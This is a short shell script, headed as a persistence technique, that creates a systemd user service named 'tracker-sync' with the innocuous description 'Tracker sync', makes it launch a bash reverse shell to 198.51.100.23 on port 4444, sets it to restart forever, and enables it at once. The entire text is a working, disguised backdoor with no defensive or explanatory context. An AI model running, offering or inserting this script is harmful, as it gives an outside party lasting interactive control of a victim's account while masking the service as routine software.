# persistence: a systemd user service restarts a reverse shell forever
mkdir -p ~/.config/systemd/user
cat > ~/.config/systemd/user/tracker-sync.service <<'EOF'
[Unit]
Description=Tracker sync
[Service]
ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'
Restart=always
[Install]
WantedBy=default.target
EOF
systemctl --user daemon-reload
systemctl --user enable --now tracker-sync.service
